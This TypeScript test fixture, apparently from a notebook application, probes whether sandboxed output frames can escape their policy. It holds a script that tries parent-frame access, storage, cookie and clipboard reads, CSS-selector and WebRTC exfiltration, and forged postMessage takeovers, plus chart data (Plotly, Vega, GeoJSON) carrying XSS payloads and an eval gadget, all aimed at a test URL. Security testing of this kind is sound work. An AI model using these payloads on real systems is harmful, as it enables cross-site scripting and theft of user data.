/**
 * What outputs with scripts try from inside their frames, and figures whose data is hostile.
 *
 * The script notes what worked, and which directives of the policy refused something: a directive that is taken out of
 * the policy is then missing from that list, although the request filter behind it still holds.
 */

/** Leaves what it found out in `window.outcome` of the frame. */
export const frameScript = (url: string, datagramHost: string): string => `
(async () => {
  const worked = [];
  const refused = new Set();
  document.addEventListener('securitypolicyviolation', (event) => refused.add(event.effectiveDirective));
  const attempt = async (name, run) => {
    const late = new Promise((resolve) => setTimeout(() => resolve('late'), 700));
    try {
      if ((await Promise.race([Promise.resolve().then(run).then((value) => value === false ? 'no' : 'yes'), late])) === 'yes')
        worked.push(name);
    } catch {}
  };
  const loads = (tag, attributes) => new Promise((resolve, reject) => {
    const node = Object.assign(document.createElement(tag), attributes);
    node.onload = node.oncanplay = () => resolve();
    node.onerror = () => reject(new Error('refused'));
    document.body.append(node);
  });
  const opens = (socket) => new Promise((resolve, reject) => {
    socket.onopen = () => resolve();
    socket.onerror = () => reject(new Error('refused'));
  });
  await attempt('bridge', () => window.nightjar !== undefined);
  await attempt('node', () => ['require', 'process', 'module', 'Buffer', 'electron'].some((name) => name in window));
  await attempt('origin', () => origin !== 'null');
  await attempt('parent bridge', () => parent.nightjar !== undefined);
  await attempt('parent document', () => parent.document.title.length >= 0);
  await attempt('parent address', () => parent.location.href.length > 0);
  await attempt('top document', () => top.document.title.length >= 0);
  await attempt('other output', () => [...Array(parent.frames.length).keys()].some((index) =>
    parent.frames[index] !== window && parent.frames[index].document.title.length >= 0));
  await attempt('frame element', () => window.frameElement !== null);
  await attempt('localStorage', () => localStorage.setItem('a', '1'));
  await attempt('sessionStorage', () => sessionStorage.setItem('a', '1'));
  await attempt('cookie', () => { document.cookie = 'a=1'; return document.cookie !== ''; });
  await attempt('indexedDB', () => new Promise((resolve, reject) => {
    const request = indexedDB.open('a');
    request.onsuccess = resolve;
    request.onerror = reject;
  }));
  await attempt('caches', () => caches.open('a'));
  await attempt('file system', () => navigator.storage.getDirectory());
  await attempt('service worker', () => navigator.serviceWorker.register('${url}/sw.js'));
  await attempt('clipboard', () => navigator.clipboard.readText());
  await attempt('geolocation', () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)));
  await attempt('fetch', () => fetch('${url}/fetch', { mode: 'no-cors' }));
  await attempt('own files', () => fetch('app://nightjar/notebook/index.html', { mode: 'no-cors' }));
  await attempt('xhr', () => new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.onload = resolve;
    request.onerror = reject;
    request.open('GET', '${url}/xhr');
    request.send();
  }));
  await attempt('websocket', () => opens(new WebSocket('${url}/socket'.replace('http', 'ws'))));
  await attempt('events', () => opens(new EventSource('${url}/events')));
  await attempt('webtransport', () => new WebTransport('${url}/transport'.replace('http', 'https')).ready);
  navigator.sendBeacon('${url}/beacon', 'x');
  await attempt('image', () => loads('img', { src: '${url}/image.png' }));
  await attempt('script', () => loads('script', { src: '${url}/script.js' }));
  await attempt('module', () => import('${url}/module.js'));
  await attempt('style', () => loads('link', { rel: 'stylesheet', href: '${url}/style.css' }));
  await attempt('video', () => loads('video', { src: '${url}/video.mp4', preload: 'auto' }));
  await attempt('object', () => loads('object', { data: '${url}/object' }));
  for (const rel of ['prefetch', 'preconnect', 'dns-prefetch', 'preload', 'modulepreload', 'prerender', 'manifest', 'icon'])
    document.head.append(Object.assign(document.createElement('link'), { rel, href: '${url}/' + rel, as: 'script' }));
  const rules = Object.assign(document.createElement('script'), { type: 'speculationrules' });
  rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['${url}/speculation'] }] });
  document.head.append(rules);
  const style = document.createElement('style');
  style.textContent = '@import url("${url}/import.css"); @font-face { font-family: stolen; src: url("${url}/font.woff2"); } ' +
    'body { background: url("${url}/background.png"); font-family: stolen; } ' +
    'input[value^="a"] { background: url("${url}/exfiltrated") }';
  document.body.append(style, Object.assign(document.createElement('input'), { value: 'abc' }));
  await document.fonts.load('12px stolen').catch(() => undefined);
  const nested = (attributes) => document.body.append(Object.assign(document.createElement('iframe'), attributes));
  nested({ src: '${url}/frame' });
  nested({ src: 'app://nightjar/notebook/index.html' });
  nested({ src: 'data:text/html,<script>new Image().src="${url}/data-frame"<' + '/script>' });
  nested({ srcdoc: '<script>new Image().src="${url}/srcdoc-frame"<' + '/script>' });
  nested({ src: 'javascript:new Image().src="${url}/javascript-frame"' });
  const tell = 'new Image; fetch("${url}/worker").catch(() => undefined); importScripts("${url}/worker.js")';
  await attempt('worker', () => new Promise((resolve, reject) => {
    const worker = new Worker(URL.createObjectURL(new Blob(['try { ' + tell + '; postMessage(1) } catch {}'])));
    worker.onmessage = resolve;
    worker.onerror = reject;
  }));
  await attempt('remote worker', () => new Promise((resolve, reject) => {
    const worker = new SharedWorker('${url}/shared.js');
    worker.port.onmessage = resolve;
    worker.onerror = reject;
  }));
  await attempt('webrtc', () => new Promise((resolve, reject) => {
    const connection = new RTCPeerConnection({ iceServers: [
      { urls: 'stun:${datagramHost}' },
      { urls: 'turn:${new URL(url).host}?transport=tcp', username: 'a', credential: 'b' },
    ] });
    connection.createDataChannel('a');
    connection.onicecandidate = ({ candidate }) => candidate?.candidate.includes('srflx') ? resolve() : undefined;
    connection.createOffer().then((offer) => connection.setLocalDescription(offer)).catch(reject);
  }));
  await attempt('window', () => window.open('${url}/open') !== null);
  await attempt('dialog', () => confirm('a'));
  const { port1, port2 } = new MessageChannel();
  for (const message of ['nightjar-tunnel-port', { t: 'frames', id: 1, frames: [] }, { t: 'link', url: '${url}/link' }, null])
    parent.postMessage(message, '*', message === 'nightjar-tunnel-port' ? [port1] : []);
  for (let index = 0; index < parent.frames.length; index += 1)
    parent.frames[index].postMessage({ t: 'show', content: { kind: 'html', html: 'taken over' }, look: { isDark: true, colors: {} } }, '*', index === 0 ? [port2] : []);
  const clicked = (attributes) => {
    const anchor = Object.assign(document.createElement('a'), attributes);
    document.body.append(anchor);
    anchor.click();
  };
  clicked({ href: '${url}/blank', target: '_blank' });
  clicked({ href: '${url}/top', target: '_top' });
  clicked({ href: '${url}/parent', target: '_parent' });
  clicked({ href: '${url}/download', download: 'a' });
  clicked({ href: 'app://nightjar/home/index.html', target: '_top' });
  for (const target of ['_top', '_self', '_blank']) {
    const form = Object.assign(document.createElement('form'), { action: '${url}/form', method: 'post', target });
    document.body.append(form);
    form.submit();
  }
  const base = Object.assign(document.createElement('base'), { href: '${url}/base/' });
  document.head.append(base);
  for (const where of ['top', 'parent']) {
    try { window[where].location = '${url}/' + where + '-location'; } catch {}
  }
  await new Promise((resolve) => setTimeout(resolve, 500));
  window.outcome = { worked, refused: [...refused].sort() };
})();
`;

/** Figures and a map whose data is hostile. Each is data, and is shown without being asked for. */
export const hostileFigures = (url: string): Record<string, unknown>[] => {
  const script = `<img src=x onerror="fetch('${url}/figure-onerror')"><script>fetch('${url}/figure-script')</script>`;
  const link = `<a href="javascript:fetch('${url}/figure-link')">link</a>`;
  return [
    {
      'application/vnd.plotly.v1+json': {
        data: [{ type: 'scatter', x: [1, 2], y: [1, 2], name: script, text: [script, link], mode: 'text+markers' }],
        layout: {
          title: { text: `hostile plotly ${link}${script}` },
          images: [{ source: `${url}/plotly-image.png`, xref: 'paper', yref: 'paper', x: 0, y: 1, sizex: 1, sizey: 1 }],
          annotations: [{ text: `${script}${link}`, x: 1, y: 1 }],
        },
        config: { plotlyServerURL: url, topojsonURL: `${url}/topojson/` },
      },
    },
    {
      'application/vnd.plotly.v1+json': {
        data: [{ type: 'choropleth', locations: ['FRA'], z: [1] }],
        layout: { title: { text: 'hostile map' } },
        config: { topojsonURL: `${url}/topojson/` },
      },
    },
    {
      'application/vnd.vegalite.v6+json': {
        title: script,
        data: { url: `${url}/vega-data.json` },
        mark: { type: 'image', width: 20, height: 20 },
        encoding: { url: { value: `${url}/vega-image.png` }, href: { value: `javascript:fetch('${url}/vega-href')` } },
      },
    },
    {
      'application/vnd.vega.v6+json': {
        width: 50,
        height: 50,
        signals: [{ name: 'a', init: `constructor.constructor("fetch('${url}/vega-eval')")()` }],
        data: [{ name: 'table', url: `${url}/vega-table.csv`, format: { type: 'csv' } }],
        marks: [{ type: 'text', encode: { enter: { text: { value: 'hostile vega' } } } }],
      },
    },
    {
      'application/geo+json': {
        type: 'Feature',
        properties: { name: script },
        geometry: { type: 'Point', coordinates: [1, 2] },
      },
    },
  ];
};
